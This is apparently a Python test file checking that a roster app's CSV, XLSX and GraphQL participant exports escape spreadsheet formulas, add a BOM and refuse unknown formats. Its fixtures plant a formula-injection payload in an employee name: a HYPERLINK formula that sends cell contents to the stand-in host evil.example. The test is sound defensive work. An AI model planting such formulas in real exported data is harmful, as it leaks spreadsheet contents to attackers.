"""Roster exports open safely in Excel: formulas escaped, a BOM, and an XLSX twin."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from app.domain.access import Role
from tests.api.rest.program_helpers import MENTEE, apply, directory, nc_cohort

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


async def _participants(client, auth):
    admin = await auth()
    ids = await directory(client, admin)
    renamed = await client.post(
        "/v1/employees/import",
        headers=admin,
        json={
            "employees": [
                {
                    "employee_number": "E2",
                    "given_name": "@SUM(1+1)",
                    "family_name": FORMULA,
                    "level": 3,
                    "department": "Finance",
                    "unit": "Payroll",
                }
            ]
        },
    )
    assert renamed.status_code == 200, renamed.text
    cohort = await nc_cohort(client, admin, ids)
    await apply(client, admin, cohort["cohort"], ids["E2"], MENTEE)
    return await auth(role=Role.COORDINATOR)


async def test_a_csv_export_escapes_formulas_and_starts_with_a_bom_for_excel(client, auth):
    coordinator = await _participants(client, auth)
    response = await client.get("/v1/roster-files/participants.csv", headers=coordinator)
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert 'filename="participants.csv"' in response.headers["content-disposition"]
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_column = dict(zip(header, row, strict=True))
    assert by_column["family_name"] == "'" + FORMULA
    assert by_column["given_name"] == "'@SUM(1+1)"
    assert by_column["employee_number"] == "E2"


async def test_the_xlsx_twin_has_the_same_columns_and_text_never_runs_as_a_formula(client, auth):
    coordinator = await _participants(client, auth)
    as_csv = await client.get("/v1/roster-files/participants.csv", headers=coordinator)
    csv_header = next(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    for request in ({"params": {"format": "xlsx"}}, {"headers": {"Accept": XLSX}}):
        response = await client.get(
            "/v1/roster-files/participants.csv",
            headers={**coordinator, **request.get("headers", {})},
            params=request.get("params"),
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == XLSX
        sheet = load_workbook(io.BytesIO(response.content)).active
        header, row = ([c for c in r] for r in sheet.iter_rows(max_row=2))
        assert [c.value for c in header] == csv_header
        cells = {h.value: c for h, c in zip(header, row, strict=True)}
        assert cells["family_name"].value == FORMULA
        assert cells["family_name"].data_type == "s"


async def test_mentorship_exports_come_in_both_formats_and_an_unknown_format_is_refused(
    client, auth
):
    coordinator = await auth(role=Role.COORDINATOR)
    url = "/v1/roster-files/mentorships.csv"
    xlsx = await client.get(url, headers=coordinator, params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert next(sheet.iter_rows(values_only=True))[0] == "mentorship_id"
    refused = await client.get(url, headers=coordinator, params={"format": "pdf"})
    assert refused.status_code in (400, 422)
    assert "format" in refused.text


async def test_graphql_csv_exports_are_escaped_too(client, auth):
    coordinator = await _participants(client, auth)
    response = await client.post(
        "/graphql", headers=coordinator, json={"query": "{ participantsCsv }"}
    )
    text = response.json()["data"]["participantsCsv"]
    assert not text.startswith("\ufeff")
    header, row = list(csv.reader(io.StringIO(text)))
    assert dict(zip(header, row, strict=True))["family_name"] == "'" + FORMULA
